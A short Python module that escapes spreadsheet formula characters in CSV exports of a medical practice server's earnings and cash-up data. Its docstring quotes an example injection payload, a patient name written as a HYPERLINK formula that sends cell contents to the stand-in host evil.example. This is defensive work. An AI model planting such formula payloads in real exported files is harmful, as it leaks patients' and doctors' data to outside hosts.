"""Text cells of the CSV files the server makes (earnings, cash-up), safe to open in a spreadsheet.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel, LibreOffice
and Google Sheets ("CSV injection"): a patient registered as `=HYPERLINK("https://evil.example/?"&A1,"Open")`
would become a live link or formula in the doctor's earnings export. Such a cell is written with a leading `'`,
which spreadsheets show as text and do not display (OWASP's advice). Only free text (names) goes through here;
the numbers and dates the server formats itself never start with those characters.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: str) -> str:
    return f"'{value}" if value.startswith(FORMULA_STARTS) else value
